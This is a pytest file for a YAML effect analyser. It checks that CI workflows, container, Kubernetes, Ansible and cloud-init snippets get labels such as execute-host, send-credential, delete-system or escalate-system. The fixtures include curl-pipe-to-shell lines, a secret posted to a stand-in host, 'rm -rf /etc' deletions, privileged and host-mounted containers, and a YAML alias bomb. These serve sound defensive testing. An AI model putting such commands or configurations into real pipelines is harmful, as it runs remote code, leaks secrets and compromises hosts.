import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.guard.effects.analyse import analyse
from freehold.guard.effects.workflow_yaml import documents
from freehold.guard.syntax import Language
from tests.guard.effects.windows_cases import rules

CI = "on: {on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"


def _ci(*steps: str, on: str = "push") -> str:
    return CI.format(on=on, steps="\n".join(f"    - {step}" for step in steps))


HEAD = "{uses: actions/checkout@v4, with: {ref: '${{ github.event.pull_request.head.sha }}'}}"

EFFECTS = {
    # CI
    _ci("run: curl -s https://h.example/x.sh | sh"): "execute-host",
    _ci("run: |\n        echo a\n        rm -rf /etc/x"): "delete-system",
    _ci('run: echo "${{ github.event.issue.title }}"'): "execute-nothing",
    _ci('run: git checkout "${{ github.head_ref }}"'): "execute-nothing",
    _ci("run: curl -d x=${{ secrets.KEY }} https://h.example"): "send-credential",
    _ci("{shell: pwsh, run: 'Remove-Item C:\\Windows\\x'}"): "delete-system",
    _ci("{shell: cmd, run: 'del C:\\Windows\\x'}"): "delete-system",
    _ci(HEAD, on="pull_request_target"): "execute-host",
    "on:\n  schedule:\n  - cron: '0 0 * * *'\njobs: {}": "persist-workspace",
    "stages: [a]\nx:\n  script:\n  - rm -rf /etc/x": "delete-system",
    "steps:\n- bash: rm -rf /etc/x": "delete-system",
    "version: 2.1\njobs:\n  b:\n    steps:\n    - run: {name: x, command: rm -rf /etc/x}": "delete-system",
    # containers
    "services:\n  a: {image: x, privileged: true}": "escalate-system",
    "services:\n  a: {image: x, volumes: ['/:/host']}": "escalate-system",
    "services:\n  a: {image: x, volumes: ['/var/run/docker.sock:/s']}": "escalate-system",
    "services:\n  a: {image: x, cap_add: [SYS_ADMIN]}": "escalate-system",
    "services:\n  a: {image: x, volumes: ['/etc:/e']}": "write-system",
    "services:\n  a: {image: x, command: sh -c 'curl http://h.example | sh'}": "execute-host",
    "services:\n  a: {image: x, ports: ['80:80']}": "listen-nothing",
    # manifests
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - {securityContext: {privileged: true}}": "escalate-system",
    "apiVersion: v1\nkind: Pod\nspec:\n  volumes:\n  - hostPath: {path: /}\n  containers: []": "escalate-system",
    "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers: []": "escalate-nothing",
    "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - {command: [sh, -c], args: [curl h.example | sh]}": "execute-host",
    "apiVersion: rbac/v1\nkind: ClusterRoleBinding\nroleRef: {name: cluster-admin}": "account-system",
    "apiVersion: batch/v1\nkind: CronJob\nspec: {}": "persist-host",
    # playbooks, first starts
    "- hosts: web\n  tasks:\n  - shell: curl http://h.example | sh": "execute-host",
    "- hosts: web\n  tasks:\n  - ansible.builtin.file: {path: /etc/x, state: absent}": "delete-system",
    "- hosts: web\n  tasks:\n  - block:\n    - user: {name: a}": "account-system",
    "- tasks:\n  - win_shell: Remove-Item C:\\Windows\\x": "delete-system",
    "- authorized_key: {user: a, key: b}": "persist-system",
    "#cloud-config\nruncmd:\n- [sh, -c, 'curl http://h.example | sh']": "execute-host",
    "#cloud-config\nssh_authorized_keys: [a]": "persist-credential",
}  # fmt: skip


@pytest.mark.parametrize(("text", "rule"), EFFECTS.items())
def test_a_file_of_commands_does_what_they_do(text: str, rule: str) -> None:
    assert rule in rules(text, Language.YAML)


HARMLESS = [
    _ci("uses: actions/checkout@v4", "run: make test", "run: pytest -q"),
    _ci(HEAD, on="pull_request"),
    _ci('run: echo "number ${{ github.event.pull_request.number }}"'),
    _ci("{env: {T: '${{ github.event.issue.title }}'}, run: 'echo \"$T\"'}"),
    "name: x\nvalues: [1, 2]\nnested: {a: b}",
    "services:\n  db: {image: 'postgres:16', volumes: ['data:/var/lib/postgresql/data']}",
    "apiVersion: v1\nkind: ConfigMap\ndata: {a: b}",
    "",
    "--- a\n--- b",
    "&a [*a]",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_files_do_nothing_that_is_asked_about(text: str) -> None:
    assert not rules(text, Language.YAML) - {"run-nothing", "run-workspace", "read-workspace", "write-workspace"}


BOMB = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join(['*' + before] * 10)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize("text", [BOMB + "jobs: *i", BOMB + "services: {x: *i}", BOMB + "kind: x\napiVersion: *i"])
def test_aliases_are_not_spelled_out(text: str) -> None:
    analyse(text, Language.YAML)


@pytest.mark.parametrize(
    "text", ["[" * 60_000, "- " * 30_000, "? " * 30_000, "a: b: c", "\ud800: x", "a: " + "x" * (1 << 17), "\x00"]
)
def test_what_can_not_be_read_is_unknown(text: str) -> None:
    assert rules(text, Language.YAML) == {"unknown-nothing"}


@given(st.text(alphabet="abrun:-[]{}&*!|>%#,?'\"\n $", max_size=200))
def test_any_text_has_an_answer(text: str) -> None:
    documents(text)
    analyse(text, Language.YAML)
